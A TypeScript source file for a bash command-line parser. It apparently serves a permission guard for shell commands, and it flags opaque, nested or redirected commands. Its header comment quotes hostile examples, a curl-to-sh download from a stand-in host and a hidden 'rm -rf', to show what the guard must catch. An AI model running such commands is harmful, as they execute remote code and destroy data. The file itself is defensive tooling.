/**
 * What a bash command line really runs. A permission rule like `Bash(npm test *)` must not
 * approve `npm test && curl evil.sh | sh`, and one against `rm` must see the rm in
 * `ls a#b; { /bin/rm -rf x; }`. So we parse the line with a real bash grammar
 * (tree-sitter-bash, see parser.ts) and collect every *simple command* in the
 * syntax tree — in pipelines and lists, `( )` and `{ }`, if/while/for/case bodies,
 * functions, `!`, substitutions, and the scripts of nested shells:
 *
 *   timeout 60 npm test && echo "a && b" > out.txt
 *   └── simple command ─┘    └─ one word ─┘ └ writes out.txt
 *   core: npm test            core: echo a && b
 *
 * Each simple command keeps its words, its *core* (the words after wrappers like
 * `timeout 60` and `FOO=1` prefixes: what really runs), the core with the program by its name
 * alone (`/bin/rm` is rm), the files it writes and reads through redirections — and, when we
 * cannot account for all it does, why it is *opaque*. Opaque is the default for anything not
 * understood: a line bash would not parse, a program name that is a `$VAR`, `eval`, a `$(...)`,
 * a node type this file does not model. What to do with an opaque command is the caller's
 * business (s03: no rule may approve it), but never to take it for harmless.
 */
import { withSyntaxTree, type SyntaxNode } from "./parser.ts";
import { SUBSTITUTIONS, wordOf, type BashWord } from "./words.ts";
import { innerCommandsOf } from "./inner-commands.ts";
import { programName, stripWrappers } from "./wrappers.ts";
import { environmentChange } from "./env-prefix.ts";
import { codeItRuns } from "./code-runners.ts";
import { parseOptions } from "./options.ts";

export interface ShellCommand {
  /** All its words, quotes removed: `timeout 60 npm test` */
  text: string;
  /** The words after wrappers and VAR=value prefixes: `npm test` */
  core: string;
  /** The core as words, the program by its name alone: `/bin/rm -rf x` → ["rm", "-rf", "x"]. */
  words: string[];
  /** Files it writes through `>`, `>>`, `&>`... (never /dev/null and friends). */
  writes: string[];
  /** Files it reads through `<` and `<>`: `cat < .env` reads .env as surely as `cat .env`. */
  reads: string[];
  /** Why we cannot account in advance for all it runs (a `$(...)`, `eval`, `bash -c`, a `$CMD`...). */
  opaque?: string;
  /**
   * Why what it acts on is unknown in advance, though all it runs is seen: `find . -delete`,
   * `tar -x`, an option the course does not know (`cat --frobnicate`: options.ts).
   */
  actsOnUnnamed?: string;
  /** Why the environment it runs in may change what it does: `PATH=./bin cat x`, `env ... git` (env-prefix.ts). */
  environment?: string;
  /** Why what it does cannot be read from the line: it runs code it is given (`node -e`, `bash x.sh`: code-runners.ts). */
  runsCode?: string;
  /** The core with its options respelled (`sed -i .bak x` for `sed -i.bak x`): deny and ask rules see it too. */
  respelled?: string[];
}

/** Nodes that only hold other statements (or words, scanned for substitutions). */
const CONTAINERS = new Set([
  "program", "list", "pipeline", "subshell", "compound_statement", "do_group", "negated_command",
  "if_statement", "elif_clause", "else_clause", "while_statement", "for_statement", "c_style_for_statement",
  "case_statement", "case_item", "function_definition",
]);
/** Statements that are commands without a program: `export A=1`, `x=1`, `[[ -f x ]]`. */
const BUILTIN_STATEMENTS = new Set(["declaration_command", "unset_command", "variable_assignment", "variable_assignments", "test_command"]);
/** Nodes that never run anything. */
const INERT = new Set(["comment", "heredoc_start", "heredoc_end", "heredoc_content", "variable_name", "file_descriptor", "test_operator"]);
const REDIRECTS = new Set(["file_redirect", "heredoc_redirect", "herestring_redirect"]);
/** Redirections whose target is a file the command writes. */
const WRITE_REDIRECTS = new Set([">", ">>", ">|", "&>", "&>>", "<>", ">&"]);
/** Redirections whose target is a file the command reads. */
const READ_REDIRECTS = new Set(["<", "<>", "<&"]);
/** Writing to these changes no file. */
const HARMLESS_TARGETS = new Set(["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"]);
/** Bash keywords: as the first word of a command, the parser has misread the line. */
const KEYWORDS = new Set(["{", "}", "(", ")", "!", "if", "then", "elif", "else", "fi", "do", "done", "case", "esac", "while", "until", "for", "select", "in", "function", "[[", "]]", "time", "coproc"]);
/** `bash -c "bash -c \"...\""`: past this depth we stop looking and call it opaque. */
const MAX_NESTING = 8;

/**
 * Parse a command line into its simple commands, in order; commands hidden inside
 * substitutions and nested shells come along too (marked opaque): every program that may run is listed.
 */
export function parseCommandLine(line: string): ShellCommand[] {
  return analyse(line, 0);
}

function analyse(line: string, depth: number): ShellCommand[] {
  const result = withSyntaxTree(line, (root) => {
    const walker = new CommandWalker(depth);
    walker.visit(root, undefined);
    if (!root.hasError) return walker.commands;
    return markOpaque([...walker.commands, ...roughCommands(line)], `bash cannot parse it (${syntaxErrorNear(root)})`);
  });
  return Array.isArray(result) ? result : [opaqueLine(line, result.unparsed)];
}

/** What a redirection adds to the command it belongs to. */
interface Redirections {
  writes: string[];
  reads: string[];
  substitutions: SyntaxNode[];
  opaque?: string;
  /** A here-document's line can go on: `cat <<EOF | grep x` parses the `| grep x` inside it. */
  statements: SyntaxNode[];
}

const noRedirections = (): Redirections => ({ writes: [], reads: [], substitutions: [], statements: [] });

/** Walks the syntax tree and files one ShellCommand per simple command it meets. */
class CommandWalker {
  readonly commands: ShellCommand[] = [];
  constructor(private readonly depth: number) {}

  /** `hidden`: why the commands found here are opaque (they run inside a substitution). */
  visit(node: SyntaxNode, hidden: string | undefined): void {
    if (node.type === "command") this.command(node, noRedirections(), hidden);
    else if (node.type === "redirected_statement") this.redirected(node, hidden);
    else if (SUBSTITUTIONS.has(node.type)) this.substitution(node);
    else if (BUILTIN_STATEMENTS.has(node.type)) this.builtinStatement(node, hidden);
    else if (CONTAINERS.has(node.type)) this.children(node, hidden);
    else if (INERT.has(node.type)) return;
    else if (node.type === "ERROR") this.children(node, hidden); // the whole line is opaque anyway
    else this.word(node, hidden);
  }

  private children(node: SyntaxNode, hidden: string | undefined): void {
    for (const child of node.namedChildren) if (child) this.visit(child, hidden);
  }

  /** A word outside a command (a for list, a case pattern): only its substitutions run. */
  private word(node: SyntaxNode, hidden: string | undefined): void {
    const word = wordOf(node);
    if (word.unknown) this.add(opaqueLine(node.text, unmodelled(word.unknown)), hidden);
    for (const s of word.substitutions) this.substitution(s);
  }

  /** `$(...)`, backticks, `<(...)`: the commands inside run too, unseen by whoever reads the command around them. */
  private substitution(node: SyntaxNode): void {
    const why = node.type === "process_substitution" ? "it runs inside a <(...) or >(...) substitution" : "it runs inside a $(...) or backtick substitution";
    this.children(node, why);
  }

  /** `export A=1`, `x=$(id)`, `[[ -f x ]]`: a command named by its keyword. */
  private builtinStatement(node: SyntaxNode, hidden: string | undefined): void {
    const words = statementWords(node);
    const parts = node.type === "variable_assignment" ? [partOf(node)] : node.namedChildren.flatMap((c) => (c ? [partOf(c)] : []));
    const command = simple(words, words, []);
    const unknown = parts.find((p) => p.unknown)?.unknown;
    const substitutions = parts.flatMap((p) => p.substitutions);
    const why = firstReason(unknown && unmodelled(unknown), substitutions.length ? substitutionReason(substitutions) : undefined);
    if (why) command.opaque = why;
    this.add(command, hidden);
    for (const s of substitutions) this.substitution(s);
  }

  /** `cmd > out`, `{ ...; } 2> err`, `while ...; done < in`: the redirections belong to the body. */
  private redirected(node: SyntaxNode, hidden: string | undefined): void {
    const body = node.childForFieldName("body");
    const redirections = noRedirections();
    for (const child of node.namedChildren) if (child && child !== body && REDIRECTS.has(child.type)) this.redirection(child, redirections);
    if (body?.type === "command") this.command(body, redirections, hidden);
    else {
      const first = this.commands.length;
      if (body) this.visit(body, hidden);
      const owner = this.commands[first];
      if (owner) attach(owner, redirections);
      else this.add(withRedirections(simple([], [], []), redirections), hidden);
      for (const s of redirections.substitutions) this.substitution(s);
    }
    for (const statement of redirections.statements) this.visit(statement, hidden);
  }

  /** One redirection: note the file written, the substitutions run, the statements that follow. */
  private redirection(node: SyntaxNode, into: Redirections): void {
    if (node.type !== "file_redirect") {
      // `<<EOF` (its body, maybe more redirections and the rest of the line) or `<<< word`
      for (const child of node.namedChildren) {
        if (!child || INERT.has(child.type)) continue;
        if (child.type === "file_redirect") this.redirection(child, into);
        else if (isStatement(child)) into.statements.push(child);
        else {
          const word = wordOf(child);
          into.substitutions.push(...word.substitutions);
          if (word.unknown) into.opaque ??= unmodelled(word.unknown);
        }
      }
      return;
    }
    const operator = node.children.find((c) => c && !c.isNamed)?.type ?? "";
    const [destination, ...extra] = node.namedChildren.filter((c): c is SyntaxNode => c !== null && c.type !== "file_descriptor");
    if (extra.length) into.opaque ??= `it has a redirection we cannot read (${node.text})`;
    if (!destination) return;
    const target = wordOf(destination);
    into.substitutions.push(...target.substitutions);
    if (READ_REDIRECTS.has(operator) && isFileTarget(operator, target.text)) into.reads.push(target.text);
    if (!WRITE_REDIRECTS.has(operator)) return;
    if (target.unknown) into.opaque ??= unmodelled(target.unknown);
    else if (/[*?[]/.test(target.text)) into.opaque ??= `it redirects output to something we cannot read (${operator} ${target.text})`;
    else if (isFileTarget(operator, target.text)) into.writes.push(target.text);
  }

  /** A simple command: assignments, a name, arguments, redirections. */
  private command(node: SyntaxNode, redirections: Redirections, hidden: string | undefined): void {
    const assignments: BashWord[] = [];
    const words: BashWord[] = [];
    for (const child of node.namedChildren) {
      if (!child) continue;
      if (child.type === "variable_assignment") assignments.push(partOf(child));
      else if (REDIRECTS.has(child.type)) this.redirection(child, redirections);
      else if (child.type === "command_name" && child.firstNamedChild) words.push(wordOf(child.firstNamedChild));
      else words.push(wordOf(child));
    }
    this.simpleCommand(words, assignments, redirections, hidden);
    for (const statement of redirections.statements.splice(0)) this.visit(statement, hidden);
  }

  private simpleCommand(words: BashWord[], assignments: BashWord[], redirections: Redirections, hidden: string | undefined): void {
    const { core, misread } = coreOf(words);
    const command = withRedirections(simple([...assignments, ...words].map((w) => w.text), core.map((w) => w.text), []), redirections);
    const all = [...assignments, ...words];
    const substitutions = all.flatMap((w) => w.substitutions);
    const unknown = all.find((w) => w.unknown)?.unknown;
    const nameUnknown = [words[0], core[0]].find((w) => w !== undefined && !w.literal);
    const inner = innerCommandsOf(core);
    const tooDeep = inner?.script !== undefined && this.depth >= MAX_NESTING;
    const why = firstReason(
      misread && `bash reads "${misread}" as a keyword here, which this guard cannot follow`,
      unknown && unmodelled(unknown),
      nameUnknown && `the program it runs is not known in advance (${nameUnknown.text})`,
      substitutions.length ? substitutionReason(substitutions) : undefined,
      tooDeep ? "it nests shells too deeply to follow" : inner?.opaque,
    );
    if (why) command.opaque ??= why;
    if (inner?.actsOnUnnamed) command.actsOnUnnamed = inner.actsOnUnnamed;
    const environment = environmentChange([...assignments, ...words.slice(0, words.length - core.length)]);
    if (environment) command.environment = environment;
    const runsCode = codeItRuns(core);
    if (runsCode) command.runsCode = runsCode;
    // Its options (option-specs.ts): one that runs code hides what runs; one unknown, or one
    // that writes files nobody named, leaves what it acts on unknown.
    const options = parseOptions(command.words);
    if (options?.executes) command.opaque ??= options.executes;
    const unnamed = options?.unknown ?? options?.actsOnUnnamed;
    if (unnamed) command.actsOnUnnamed ??= unnamed;
    if (options?.canonical.some((c) => c !== command.words.join(" "))) command.respelled = options.canonical;
    this.add(command, hidden);
    for (const s of [...redirections.substitutions, ...substitutions]) this.substitution(s);
    if (inner?.script !== undefined && !tooDeep) this.commands.push(...markOpaque(analyse(inner.script, this.depth + 1), "it runs inside a nested shell"));
    for (const words of inner?.commands ?? []) this.simpleCommand(words, [], noRedirections(), hidden);
  }

  private add(command: ShellCommand, hidden: string | undefined): void {
    if (hidden) command.opaque ??= hidden;
    this.commands.push(command);
  }
}

/**
 * The words after wrappers. `time { rm x; }` and `coproc { ...; }` are bash grammar the
 * parser does not know: it reads `{` as a program. We step over such keywords (and the
 * wrappers after them) so that `rm x` is still seen, and say the line was misread.
 */
function coreOf(words: BashWord[]): { core: BashWord[]; misread?: string } {
  let core = words;
  let misread: string | undefined;
  for (;;) {
    core = core.slice(core.length - stripWrappers(core.map((w) => w.text)).length);
    if (core[0] === undefined || !KEYWORDS.has(core[0].text)) return misread ? { core, misread } : { core };
    misread ??= core[0].text;
    core = core.slice(1);
  }
}

const unmodelled = (type: string) => `it uses bash syntax this guard does not model (${type})`;

function firstReason(...reasons: (string | undefined | false | "")[]): string | undefined {
  return reasons.find((r): r is string => typeof r === "string" && r !== "");
}

/** A word, or an assignment `A=value` (the substitutions of its value and subscript count). */
function partOf(node: SyntaxNode): BashWord {
  if (node.type !== "variable_assignment") return wordOf(node);
  const pieces = ["name", "value"].map((f) => node.childForFieldName(f)).filter((c): c is SyntaxNode => c !== null && c.type !== "variable_name").map(wordOf);
  const unknown = pieces.find((p) => p.unknown)?.unknown;
  return { text: statementWords(node).join(" "), literal: pieces.every((p) => p.literal), substitutions: pieces.flatMap((p) => p.substitutions), ...(unknown ? { unknown } : {}) };
}

function isStatement(node: SyntaxNode): boolean {
  return node.type === "command" || node.type === "redirected_statement" || CONTAINERS.has(node.type) || BUILTIN_STATEMENTS.has(node.type);
}

function substitutionReason(substitutions: SyntaxNode[]): string {
  return substitutions.some((s) => s.type === "process_substitution")
    ? "it runs a process substitution <(...) or >(...)"
    : "it runs a command substitution ($(...) or backticks)";
}

/** The words of a keyword statement: `export A=1 B` → ["export", "A=1", "B"]. */
function statementWords(node: SyntaxNode): string[] {
  if (node.type === "variable_assignment") {
    const value = node.childForFieldName("value");
    return [`${node.childForFieldName("name")?.text ?? ""}=${value ? wordOf(value).text : ""}`];
  }
  if (node.type === "test_command") return node.text.split(/\s+/).filter(Boolean);
  return node.children.flatMap((c) => (!c ? [] : c.type === "variable_assignment" ? statementWords(c) : c.isNamed ? [wordOf(c).text] : /^\w/.test(c.type) ? [c.type] : []));
}

function simple(text: string[], core: string[], writes: string[]): ShellCommand {
  const words = core.length ? [programName(core[0]!), ...core.slice(1)] : [];
  return { text: text.join(" "), core: core.join(" "), words, writes, reads: [] };
}

function withRedirections(command: ShellCommand, redirections: Redirections): ShellCommand {
  attach(command, redirections);
  return command;
}

function attach(command: ShellCommand, redirections: Redirections): void {
  command.writes.push(...redirections.writes);
  command.reads.push(...redirections.reads);
  if (redirections.opaque) command.opaque ??= redirections.opaque;
  if (redirections.substitutions.length) command.opaque ??= substitutionReason(redirections.substitutions);
}

/** `>&2` and `2>&1` duplicate a descriptor; `>& file` writes the file, `<& file` reads it. */
function isFileTarget(operator: string, target: string): boolean {
  if ((operator === ">&" || operator === "<&") && /^(\d+|-)$/.test(target)) return false;
  return !HARMLESS_TARGETS.has(target);
}

function markOpaque(commands: ShellCommand[], why: string): ShellCommand[] {
  return commands.map((c) => ({ ...c, opaque: c.opaque ?? why }));
}

function opaqueLine(text: string, why: string): ShellCommand {
  return { ...simple([text], text.split(/\s+/).filter(Boolean), []), opaque: why };
}

/** Where the syntax error is: the text of the first ERROR or MISSING node. */
function syntaxErrorNear(root: SyntaxNode): string {
  const bad = findNode(root, (n) => n.isError || n.isMissing);
  if (!bad) return "a syntax error";
  if (bad.isMissing) return `missing "${bad.type}"`;
  const text = bad.text.trim().replace(/\s+/g, " ");
  return text ? `near "${text.length > 40 ? `${text.slice(0, 37)}...` : text}"` : "a syntax error";
}

function findNode(node: SyntaxNode, test: (n: SyntaxNode) => boolean): SyntaxNode | undefined {
  if (test(node)) return node;
  for (const child of node.children) {
    const found = child && findNode(child, test);
    if (found) return found;
  }
  return undefined;
}

/**
 * For a line bash cannot parse, a rough split on operators and keywords, so its likely
 * commands are still seen (s03's deny rules and refuse-list look at them); all opaque: a guess.
 */
function roughCommands(line: string): ShellCommand[] {
  const keywords = /^(?:if|then|else|elif|fi|do|done|while|until|for|case|esac|in|!|\{|\}|time|function)$/;
  return line
    .split(/[;&|\n(){}`]|\$\(|\b(?:then|do|else)\b/)
    .map((part) => part.replace(/["']/g, "").trim().split(/\s+/).filter((w) => w && !keywords.test(w)))
    .filter((words) => words.length > 0)
    .map((words) => {
      const core = stripWrappers(words);
      return simple(words, core, []);
    });
}
